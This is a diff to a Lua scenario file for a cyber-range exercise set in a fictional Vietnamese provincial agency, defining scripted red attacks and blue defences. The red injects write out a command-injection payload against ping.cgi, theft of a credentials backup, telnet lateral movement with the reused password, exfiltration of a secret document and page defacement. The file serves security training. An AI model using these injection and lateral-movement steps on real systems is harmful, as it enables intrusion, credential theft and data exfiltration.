@@ -12,7 +12,7 @@ scenario {
   organisation = "Sở Thông tin và Truyền thông tỉnh Hòa Bình Xanh",
   year = 2026,
   security_level = 3,
-  duration = "4h",
+  duration = "2h",
   seed = 20261121,
   address_pool = "10.64.0.0/10",
   default_policy = "deny",
@@ -124,13 +124,33 @@ objective "dvc-up" { kind = "keep_available", node = "dichvucong", service = "ht
 objective "mail-up" { kind = "keep_available", node = "mail", service = "smtp" }
 
 -- Red injects: the attack chain ---------------------------------------------------
-local CGI = "/cgi-bin/ping.cgi?host="
+-- Every step really crosses the range: requests leave the attacker node (in
+-- the shared red zone), pass the team's router and its firewall, and hit the
+-- planted weaknesses. Addresses come from ctx.addr(): each team's copy has
+-- its own.
 
--- Runs a shell command through the CGI injection; returns its output or nil.
-local function inject_cmd(ctx, cmd)
-  local r = ctx.http("dichvucong", CGI .. "127.0.0.1;" .. cmd, { from = "attacker" })
-  if r.status ~= 200 then return nil end
+local CGI = "/cgi-bin/ping.cgi?host=127.0.0.1;"
+
+-- Runs a shell command on dichvucong through the CGI injection, from the
+-- attacker. Returns the page (the command's output follows ping's) or nil.
+local function via_cgi(ctx, cmd, timeout)
+  local r = ctx.http("dichvucong", CGI .. cmd, { from = "attacker", timeout = timeout or 60 })
+  if not r or r.status ~= 200 then return nil end
   return r.body
+end
+
+-- A telnet session from dichvucong to another node (lateral movement): logs
+-- in with the stolen credentials and runs one command. The sleeps pace the
+-- dialogue for slow emulated guests.
+local function telnet_cmd(ctx, node, user, pass, cmd)
+  return string.format("(sleep 3; echo %s; sleep 2; echo %s; sleep 2; echo '%s'; sleep 3) "
+                       .. "| telnet %s 23", user, pass, cmd, ctx.addr(node))
+end
+
+local function creds(ctx)
+  local c = ctx.get("attacker", "/loot/creds.txt")
+  if not c then return nil end
+  return c:match("([%w_-]+):(%S+)")
 end
 
 inject "recon-web" {
@@ -138,7 +158,7 @@ inject "recon-web" {
   description = "Scan the public web services for known CGI scripts",
   run = function(ctx)
     local r = ctx.http("dichvucong", "/cgi-bin/ping.cgi?host=127.0.0.1", { from = "attacker" })
-    return r.status == 200
+    return r ~= nil and r.status == 200
   end,
 }
 
@@ -148,10 +168,9 @@ inject "exploit-cgi" {
   repeats = 3, every = "2m", until_success = true, points = { success = 50, failure = 0 },
   description = "Command injection in ping.cgi: read the root flag",
   run = function(ctx)
-    local out = inject_cmd(ctx, "cat /root/flag.txt")
-    local ok = out ~= nil and out:find("FLAG{", 1, true) ~= nil
-    if ok then ctx.emit { kind = "flag_captured", objective = "root-dvc" } end
-    return ok
+    local out = via_cgi(ctx, "cat /root/flag.txt")
+    if not out then return false, "the CGI did not answer" end
+    return ctx.objective("root-dvc", out), "flag read through ping.cgi"
   end,
 }
 
@@ -160,11 +179,11 @@ inject "steal-creds" {
   after = { inject = "exploit-cgi", on = "success", delay = "3m" },
   description = "Read the world-readable credentials backup",
   run = function(ctx)
-    local out = inject_cmd(ctx, "cat /var/backups/credentials.txt")
-    if not out then return false end
-    local user, pass = out:match("(%w+):(%S+)")
-    if not user then return false end
-    ctx.put("attacker", "/tmp/creds.txt", user .. ":" .. pass .. "\n")
+    local out = via_cgi(ctx, "cat /var/backups/credentials.txt")
+    if not out then return false, "the CGI did not answer" end
+    local user, pass = out:match("\n([%w_-]+):(%S+)")
+    if not user then return false, "no credentials in the backup" end
+    ctx.put("attacker", "/loot/creds.txt", user .. ":" .. pass .. "\n")
     return true
   end,
 }
@@ -175,13 +194,10 @@ inject "lateral-docs" {
   repeats = 2, every = "5m", until_success = true, points = 30,
   description = "Log in to the document server over telnet with the reused password",
   run = function(ctx)
-    local creds = ctx.get("attacker", "/tmp/creds.txt") or ""
-    local user, pass = creds:match("(%w+):(%S+)")
-    if not user then return false end
-    local out = inject_cmd(ctx, string.format(
-      "(sleep 1; echo %s; sleep 1; echo %s; sleep 1; echo id; sleep 1) | telnet 10.10.2.10",
-      user, pass))
-    return out ~= nil and out:find("uid=0", 1, true) ~= nil
+    local user, pass = creds(ctx)
+    if not user then return false, "no stolen credentials" end
+    local out = via_cgi(ctx, telnet_cmd(ctx, "docs", user, pass, "id"), 90)
+    return out ~= nil and out:find("uid=0", 1, true) ~= nil, "telnet login as " .. user
   end,
 }
 
@@ -189,18 +205,14 @@ inject "exfil-doc" {
   owner = "red", technique = "T1041", target = "docs",
   after = { inject = "lateral-docs", on = "success", delay = "5m" },
   points = { success = 100 },
-  description = "Copy the secret document out through the compromised web server",
+  description = "Copy the secret document out over the web channel to the attacker",
   run = function(ctx)
-    local creds = ctx.get("attacker", "/tmp/creds.txt") or ""
-    local user, pass = creds:match("(%w+):(%S+)")
-    if not user then return false end
-    local out = inject_cmd(ctx, string.format(
-      "(sleep 1; echo %s; sleep 1; echo %s; sleep 1; echo 'cat /srv/docs/secret.txt'; sleep 1)"
-        .. " | telnet 10.10.2.10", user, pass))
-    if not out or not out:find("FLAG{", 1, true) then return false end
+    local user, pass = creds(ctx)
+    if not user then return false, "no stolen credentials" end
+    local out = via_cgi(ctx, telnet_cmd(ctx, "docs", user, pass, "cat /srv/docs/secret.txt"), 90)
+    if not out or not out:find("FLAG{", 1, true) then return false, "document not read" end
     ctx.put("attacker", "/loot/secret.txt", out)
-    ctx.emit { kind = "exfiltrated", objective = "steal-doc" }
-    return true
+    return ctx.objective("steal-doc", { node = "attacker", path = "/loot/secret.txt" })
   end,
 }
 
@@ -210,62 +222,71 @@ inject "deface-portal" {
   points = 60,
   description = "Replace the portal's front page using the reused administrator password",
   run = function(ctx)
-    local creds = ctx.get("attacker", "/tmp/creds.txt") or ""
-    local user, pass = creds:match("(%w+):(%S+)")
-    if not user then return false end
-    inject_cmd(ctx, string.format(
-      "(sleep 1; echo %s; sleep 1; echo %s; sleep 1; "
-        .. "echo 'echo HACKED-BY-RED1 > /www/index.html'; sleep 1) | telnet 10.10.1.10",
-      user, pass))
-    local r = ctx.http("portal", "/", { from = "attacker" })
-    return r.body ~= nil and r.body:find("HACKED-BY-RED1", 1, true) ~= nil
+    local user, pass = creds(ctx)
+    if not user then return false, "no stolen credentials" end
+    via_cgi(ctx, telnet_cmd(ctx, "portal", user, pass,
+                            "echo HACKED-BY-RED1 > /www/index.html"), 90)
+    return ctx.objective("deface-portal")
   end,
 }
 
--- Blue injects: a scripted defender (used for training runs and as the
--- reference behaviour; live blue teams act through the submission channel).
+-- Blue injects: a scripted defender (training runs and the reference
+-- behaviour; human blue teams act through `livefire submit` instead).
 inject "detect-cgi-abuse" {
-  owner = "blue", technique = "T1190", target = "dichvucong", poll = "30s",
+  owner = "blue", technique = "T1190", target = "dichvucong", poll = "1m",
   description = "Watch the CGI log for shell metacharacters",
   when = function(ctx)
-    local log = ctx.exec("dichvucong", "cat /var/log/cgi.log").output or ""
-    return log:find("host=127.0.0.1;", 1, true) ~= nil
+    local r = ctx.exec("dichvucong", "cat /var/log/cgi.log")
+    return r ~= nil and r.out:find("host=127.0.0.1;", 1, true) ~= nil
   end,
   run = function(ctx)
-    ctx.report { kind = "detection", technique = "T1190", node = "dichvucong",
-                 summary = "Command injection attempts against ping.cgi" }
+    ctx.report { node = "dichvucong", technique = "T1190",
+                 description = "Command injection attempts against ping.cgi (cgi.log)" }
     return true
   end,
 }
 
-inject "incident-report" {
-  owner = "blue", target = "dichvucong",
-  after = { inject = "detect-cgi-abuse", on = "success", delay = "10m" },
-  description = "File the incident report to the white cell",
+inject "detect-lateral" {
+  owner = "blue", technique = "T1021", target = "docs", poll = "1m",
+  description = "Watch the document server for telnet logins from the DMZ",
+  when = function(ctx)
+    local r = ctx.exec("docs", "cat /var/log/telnet.log")
+    return r ~= nil and r.out:find(ctx.addr("dichvucong"), 1, true) ~= nil
+  end,
   run = function(ctx)
-    ctx.report { kind = "incident", severity = "high", node = "dichvucong",
-                 summary = "Public-service portal compromised through ping.cgi; "
-                        .. "credentials in /var/backups exposed" }
+    ctx.after("10m", function(ctx)
+      ctx.report { node = "docs", technique = "T1021",
+                   description = "Telnet session to docs from the public-service web server" }
+    end)
     return true
   end,
 }
 
 inject "patch-cgi" {
   owner = "blue", technique = "M1050", target = "dichvucong",
-  after = { inject = "detect-cgi-abuse", on = "success", delay = "5m" },
+  after = { inject = "detect-cgi-abuse", on = "success", delay = "25m" },
   description = "Disable the vulnerable CGI and remove the credentials backup",
   run = function(ctx)
-    local a = ctx.exec("dichvucong", "chmod 000 /www/cgi-bin/ping.cgi")
-    local b = ctx.exec("dichvucong", "rm -f /var/backups/credentials.txt")
-    return a.status == 0 and b.status == 0
+    local r = ctx.exec("dichvucong",
+                       "rm -f /var/backups/credentials.txt && cp /usr/share/lf/cgi/ping-safe.cgi "
+                       .. "/www/cgi-bin/ping.cgi")
+    return r ~= nil and r.code == 0
   end,
 }
 
-inject "revert-portal" {
-  owner = "blue", target = "portal", manual = true,
-  description = "Restore the portal from its snapshot (costs revert_penalty points)",
+inject "restore-portal" {
+  owner = "blue", target = "portal", poll = "2m",
+  description = "Put the portal's page back when it is defaced",
+  when = function(ctx)
+    local r = ctx.http("portal", "/")
+    return r ~= nil and not r.body:find("Cong thong tin", 1, true)
+  end,
   run = function(ctx)
-    ctx.emit { kind = "revert_requested", node = "portal" }
+    ctx.put("portal", "/www/index.html",
+            "<html><body><h1>Cong thong tin dien tu tinh Hoa Binh Xanh</h1>"
+            .. "<p>Trang đang được khôi phục.</p></body></html>\n")
+    ctx.report { node = "portal", technique = "T1491.002",
+                 description = "Portal front page defaced; restored from the known-good copy" }
     return true
   end,
 }
@@ -278,10 +299,10 @@ inject "press-query" {
 }
 
 inject "ministry-status" {
-  owner = "white", at = "02:00:00", response_due = "30m",
+  owner = "white", at = "01:30:00", response_due = "30m",
   description = "Bộ TT&TT yêu cầu báo cáo tình hình ứng cứu (status report to the ministry)",
   run = function(ctx)
-    ctx.emit { kind = "task", team = ctx.team, text = "Báo cáo tình hình trong 30 phút" }
+    ctx.emit { kind = "task", text = "Báo cáo tình hình ứng cứu trong 30 phút" }
     return true
   end,
 }
